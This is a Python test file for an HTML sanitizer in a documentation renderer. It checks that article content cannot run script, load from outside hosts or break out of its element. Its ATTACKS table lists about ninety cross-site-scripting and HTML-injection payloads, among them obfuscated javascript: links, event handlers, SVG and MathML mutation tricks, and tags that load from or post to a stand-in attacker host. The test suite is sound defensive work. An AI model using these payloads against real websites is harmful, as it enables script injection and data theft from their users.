"""Nothing in an article can act, load, or get out of the element that the page puts it in."""

import re
from collections.abc import Callable
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st

from tweeluik.docset.docset import Docset
from tweeluik.model import Side
from tweeluik.rendering.body import Body, render_body
from tweeluik.rendering.sanitizer import sanitize

Render = Callable[..., Body]

TAGS = frozenset(
    "a abbr address article b bdi bdo blockquote br caption center cite code col colgroup dd del details dfn div dl"
    " dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins kbd label li mark nav nobr ol p pre q rgn s samp section"
    " small span strike strong sub summary sup table tbody td tfoot th thead time tr u ul var wbr".split()
)
ATTRIBUTES = frozenset(
    "id class title role lang dir name href hreflang rel type src alt width height loading start reversed value align"
    " valign colspan rowspan headers scope abbr border summary span open datetime cite tabindex"
    " data-segment data-moniker data-tab".split()
)
OWN_CLASSES = frozenset(
    "tw-segment tw-video tw-video__link tw-video__host tw-image-link tw-empty-link tw-table tw-row tw-column tw-tabs"
    " tw-tab tw-tab__name tw-moniker tw-moniker__name tw-border tw-icon tw-lightbox tw-alert-label".split()
)
ELSEWHERE = re.compile(r"(?!data:)[a-z][a-z0-9+.-]*:|//", re.IGNORECASE)
RESERVED = re.compile(r"__|md-|tw-", re.IGNORECASE)
SCHEMES = ("http://", "https://", "mailto:", "tel:", "ms-settings:", "feedback-hub:")

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in other case": "<ScRiPt>alert(1)</sCrIpT>",
    "script with a slash": "<script/x>alert(1)</script/x>",
    "script from elsewhere": '<script src="//evil.example/x.js"></script>',
    "script that never ends": "<script>alert(1)",
    "script in script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script after a comment": "<!--><script>alert(1)</script>-->",
    "script after a comment that ends oddly": "<!-- x --!><script>alert(1)</script>",
    "script in noscript": '<noscript><p title="</noscript><script>alert(1)</script>">',
    "script in a title": '<title><img alt="</title><script>alert(1)</script>">',
    "script in a text area": "<textarea></textarea><script>alert(1)</script>",
    "image with a handler": "<img src=x onerror=alert(1)>",
    "image without a space": '<img/src="x"/onerror="alert(1)">',
    "image with a line break": '<img src="x"\nonerror\n=\n"alert(1)">',
    "image with a form feed": '<img src="x"\x0conerror="alert(1)">',
    "image with a stray quote": '<img """><script>alert(1)</script>">',
    "image with an odd quote": '<img src=https://evil.example/spy.png a"b>',
    "image with a script address": '<img src="javascript:alert(1)">',
    "image by another name": '<image src="https://evil.example/spy.png" onerror="alert(1)">',
    "image set": '<img srcset="https://evil.example/spy.png 2x" src="x.png" lowsrc="javascript:alert(1)">',
    "picture": '<picture><source srcset="https://evil.example/spy.png"><img src="https://evil.example/x.png"></picture>',
    "handler after a slash": '<div/onclick="alert(1)">x</div>',
    "handlers": "<p onmouseover=\"alert(1)\" ONFOCUS=alert(2) onToggle='alert(3)'>x</p>",
    "details that toggle": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "body with a handler": '<body onload="alert(1)" background="javascript:alert(1)">',
    "marquee": '<marquee onstart="alert(1)">x</marquee>',
    "video with a handler": '<video><source onerror="alert(1)"></video><audio src="https://evil.example/a" autoplay>',
    "svg": '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "svg with an animation": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
    "svg that never ends": "<svg><style><img src=x onerror=alert(1)></style>",
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "math link": '<math href="javascript:alert(1)">x</math>',
    "link with a script": '<a href="javascript:alert(1)">x</a>',
    "link in other case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "link with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "link with a line break as an entity": '<a href="java&#10;script:alert(1)">x</a>',
    "link with entities": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "link with a control character": '<a href="\x01javascript:alert(1)">x</a>',
    "link with blanks": '<a href="  javascript:alert(1)">x</a>',
    "link with data": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "link with data and a tab": '<a href="da\tta:text/html,<script>alert(1)</script>">x</a>',
    "link with vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "link to a file": '<a href="file:///etc/passwd">x</a>',
    "link to a blob": '<a href="blob:https://evil.example/1">x</a>',
    "link that pings": '<a href="https://evil.example/" ping="https://evil.example/spy" target="_top">x</a>',
    "link with two addresses": '<a href="https://example.org/" href="javascript:alert(1)">x</a>',
    "link in Markdown": "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>",
    "link in Markdown with entities": "[x](&#x6A;avascript:alert(1)) [y](<java\tscript:alert(1)>)",
    "link by reference": "[x]\n\n[x]: javascript:alert(1)",
    "data image with a script": '<img src="data:image/svg+xml;base64,PHN2Zy8+"> ![x](data:text/html,x)',
    "style": "<style>body{display:none}@import 'https://evil.example/x.css';</style>",
    "style attribute": '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">x</div>',
    "style in a segment": '⟦<b style="x:expression(alert(1))">a</b>¦<b style="x:expression(alert(1))">a</b>⟧',
    "link element": '<link rel="stylesheet" href="//evil.example/x.css"><meta http-equiv="refresh" content="0;url=/">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input autofocus onfocus="alert(1)"><button>x</button></form>',
    "button with a form": '<button form="f" formaction="javascript:alert(1)">x</button>',
    "select": "<select><option>x<script>alert(1)</script></option></select>",
    "label for the drawer": '<label for="__drawer">x</label>',
    "object": '<object data="https://evil.example/x.swf"><param name="x" value="y"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "applet": '<applet code="X"></applet>',
    "frame": '<iframe src="javascript:alert(1)"></iframe><frameset><frame src="https://evil.example/"></frameset>',
    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frame from elsewhere": '<iframe src="https://evil.example/" onload="alert(1)"></iframe>',
    "template": "<template><script>alert(1)</script></template>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "xmp and listing": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp><listing>&lt;script&gt;</listing>",
    "stray ends": "</div></article></main></body></html></span></p></section>",
    "stray ends in a segment": "⟦a</span></span></div></article>b¦a</span></span></div></article>b⟧",
    "opening tags without end": "<div><b><i><section><table><tr><td>",
    "ids of the theme": '<div id="__search"></div><a name="__drawer"></a><p id="tw-menu"></p><p id="md-top"></p>',
    "ids of the theme in headings": '# <a name="__palette"></a>x\n\n## __search\n\n## tw-menu\n\n## md-header',
    "ids of the theme with entities": '<p id="&#95;_search" class="&#109;d-overlay">x</p>',
    "classes of the theme": '<div class="eigen md-overlay tw-search TW-segment __x">x</div>',
    "classes of the theme behind an odd quote": '<div class=md-overlay a"b>x</div>',
    "classes of the theme in an open tag": '<div class="md-overlay" <p class="tw-search">x</p>',
    "data of the theme": '<div data-md-component="header" data-pagefind-ignore data-tw-drawer>x</div>',
    "segment of one's own": '<span class="tw-segment" data-segment="0a1b2-101" data-moniker="x" data-tab="y">x</span>',
    "names that hide the page's own": '<img name="body" src="../media/plaatje.png"><form name="cookie"></form>',
    "namespaces": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "a document type": '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
    "an instruction": '<?xml version="1.0"?><?php "?><img src=x onerror=alert(1)>" ?>',
    "character data": "<![CDATA[<script>alert(1)</script>]]><img src=x onerror=alert(1)>",
    "a placeholder with a script": '<tenant onclick="alert(1)"><b></tenant><script>alert(1)</script>',
    "a custom element": '<x-widget onclick="alert(1)" style="x">x</x-widget>',
    "nested links": '<a href="https://example.org/"><table><a href="javascript:alert(1)">x</a></table></a>',
    "markup in a code language": '```"><script>alert(1)</script>\nx\n```',
    "markup in a title": '[x](https://example.org/ "\\"><script>alert(1)</script>") ![x](x.png "\'><b>")',
    "markup in an alternative text": '![<script>alert(1)</script>" onerror="alert(1)](../media/plaatje.png)',
    "markup in a construct": ':::image source="../media/plaatje.png" alt-text="x\'><script>alert(1)</script>":::',
    "markup in a moniker": '::: moniker range="<script>alert(1)</script>"\nx\n::: moniker-end',
    "markup in a tab": "# [<script>alert(1)</script>x](#tab/x)",
    "markup in a div": '> [!div class="button md-overlay" onclick="alert(1)"]\n> x',
    "a video that is a script": '[!VIDEO javascript://x%0Aalert(1)]\n\n[!VIDEO https://evil.example/"onload=alert(1)]',
    "an include of attacks": "[!INCLUDE [x](../includes/aanval.md)]",
}
INCLUDE = (
    '</div><script>alert(1)</script><div class="md-overlay" onclick="x()">\n\n<img src="https://evil.example/i.png">\n'
)


def check(html: str) -> None:
    """Fail on anything that an article may not have."""
    check_allowed(html)
    for element in BeautifulSoup(html, "html.parser").find_all():
        assert not element.has_attr("src") or not ELSEWHERE.match(str(element["src"])), "loads from elsewhere"
        for name in ("id", "name"):
            assert not RESERVED.match(str(element.get(name, "")))
        assert {one for one in element.get_attribute_list("class") if RESERVED.match(one or "")} <= OWN_CLASSES


def check_allowed(html: str) -> None:
    """Fail on anything that the allow-list does not name, wherever it is in the HTML."""
    for element in BeautifulSoup(html, "html.parser").find_all():
        assert element.name in TAGS
        for name, value in element.attrs.items():
            assert name in ATTRIBUTES or name.startswith("aria-"), (element.name, name)
            assert name != "name" or element.name == "a", "a name of anything else is a property of the page's scripts"
            if name in {"href", "src", "cite"}:
                check_address(element.name, str(value))


def check_address(tag: str, address: str) -> None:
    plain = re.sub(r"[\x00-\x20]", "", address).lower()
    if tag == "img" and plain.startswith("data:"):
        assert re.match(r"data:image/(png|gif|jpe?g|webp);", plain)
    else:
        assert plain.startswith(SCHEMES) or not re.match(r"[a-z][a-z0-9+.-]*:", plain), address


def stays_inside(html: str) -> bool:
    """Tell whether an element with this HTML in it ends where it should: what follows it is still beside it."""
    page = BeautifulSoup(f"<article>{html}</article><footer>x</footer>", "html.parser")
    return [one.name for one in page.find_all(recursive=False)] == ["article", "footer"]


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.parametrize(
    "surroundings",
    ["{}", "Tekst {} erna", "| a |\n|---|\n| {} |", "<div>{}</div>", "- {}", "⟦{}¦{}⟧", "## Kop {}", "[{}](andere.md)"],
    ids=["alone", "in a text", "in a cell", "in HTML", "in a list", "in a segment", "in a heading", "in a link"],
)
def test_attack(attack: str, surroundings: str, render: Render) -> None:
    text = attack if "⟦" in attack and "⟦" in surroundings else surroundings.replace("{}", attack)
    html = render(text + "\n\nSlot.\n", **{"includes/aanval.md": INCLUDE}).html
    check(html)
    assert stays_inside(html)
    assert "alert(" not in "".join(re.findall(r"<[^>]*>", re.sub(r'(alt|title|aria-label|href)="[^"]*"', "", html)))
    assert "Slot." in html or "<!--" in attack, "the attack hides what follows it"


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_attack_on_the_sanitizer_alone(attack: str) -> None:
    html = sanitize(attack)
    check_allowed(html)
    assert stays_inside(html)


@pytest.mark.parametrize(
    "html",
    [
        "<p><button><p>x",
        "<dd><button><dd>x",
        "<h1><form><h1>x",
        "<li><marquee><li>x",
        "<pre>\n\nx</pre>",
        "<pre><option>\n</p>",
        '<a href="x"><table><tr><td><a href="y">z',
    ],
)
def test_what_would_nest_otherwise_is_written_as_it_is_read(html: str) -> None:
    assert sanitize(sanitize(html)) == sanitize(html)


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<p data-md-x="y" data-moniker="z">x</p>', "<p>x</p>"),
        ('<span data-segment="0a1b2-101" lang="nl">x</span>', '<span data-segment="0a1b2-101" lang="nl">x</span>'),
        ('<section data-moniker="a" data-tab="b"></section>', '<section data-moniker="a" data-tab="b"></section>'),
        ('<a aria-label="x" aria-hidden="true" name="y">z</a>', '<a aria-label="x" aria-hidden="true" name="y">z</a>'),
        ('<td align="left" colspan="2" style="x" bgcolor="y">z</td>', "z"),
        ('<table><td align="left" colspan="2" style="x">z</table>', None),
        ("<h5>a</h5><h6>b</h6><h7>c</h7>", "<h5>a</h5><h6>b</h6>c"),
        ("<details open><summary>a</summary>b</details>", '<details open=""><summary>a</summary>b</details>'),
        ("<b>a<i>b</b>c</i>", "<b>a<i>b</i></b><i>c</i>"),
        ("a &amp; b &lt; c &nbsp; é", "a &amp; b &lt; c &nbsp; é"),
        ("<video>a</video>b<font color=x>c</font>", "bc"),
    ],
)
def test_what_is_left(html: str, expected: str | None) -> None:
    cell = '<table><tbody><tr><td align="left" colspan="2">z</td></tr></tbody></table>'
    assert sanitize(html) == (expected or cell)


SOUP_PIECES = """<div> </div> <p> </p> <b> </b> <a href=x> </a> <table> <tr> <td> </td> </tr> </table> <script>
    </script> <pre> </pre> <svg> </svg> <math> <style> </style> <!-- --> <![CDATA[ ]]> < > " ' = & &lt; &#0; x é
    <select> <option> </select> <details> <summary> <nobr> <center> <template> </template> <title> </title> <img/src=x>
    onclick= javascript: style= <form> <h1> </h2> <li> <ul> <dd> <span </span> <br/> <hr> <textarea> <noscript> <iframe>
    <plaintext> <tenant> <frameset> <body> <html> <col> <caption> <mi> <mtext> <desc> <font>""".split()
SOUP = st.lists(st.sampled_from([*SOUP_PIECES, " ", "\n", "\t", "\0", "\f"]) | st.text(max_size=6), max_size=40).map(
    "".join
)


@given(SOUP)
@settings(max_examples=400, deadline=None)
def test_soup_is_clean_well_formed_and_stays_so(soup: str) -> None:
    html = sanitize(soup)
    check_allowed(html)
    assert "<!--" not in html
    assert sanitize(html) == html
    assert stays_inside(html)


@pytest.fixture(scope="module")
def one_docset(tmp_path_factory: pytest.TempPathFactory) -> Docset:
    root = tmp_path_factory.mktemp("soup")
    (root / "a.md").write_text("x", encoding="utf-8")
    return Docset(root)


MARKDOWN_PIECES = """# | - | > | [!NOTE] | [!VIDEO | [!INCLUDE [a](a.md)] | ::: moniker range="x" | ::: moniker-end
    | :::row::: | :::column::: | :::row-end::: | :::image source="x.png"::: | ``` | ~~~ | * | ** | _ | ` | [ | ]( | )
    | ![ | \\ | <b> | </b> | <div> | </div> | <!-- | --> | <x> | &amp; | 1. | --- | === | a | Tekst | #tab/a | </p>
    | <td> | <span data-ttu-id="0a1b2-101">
    | </span><span class="sxs-lookup"><span data-stu-id="0a1b2-101"> | </span></span>
    | <script>"""
MARKDOWN = st.lists(
    st.sampled_from([*(piece.strip() for piece in MARKDOWN_PIECES.split("| ")), "|", "\n", "\n\n", "    ", " ", "\t"])
    | st.text(max_size=4),
    max_size=40,
).map("".join)


@given(text=MARKDOWN, side=st.sampled_from(Side))
@settings(max_examples=300, deadline=None)
def test_whatever_an_article_holds_its_body_is_clean(text: str, side: Side, one_docset: Docset) -> None:
    (Path(one_docset.root) / "a.md").write_bytes(text.encode("utf-8", errors="surrogatepass"))
    html = render_body(one_docset, "a.md", side).html
    check(html)
    assert stays_inside(html)
    assert sanitize(html) == html
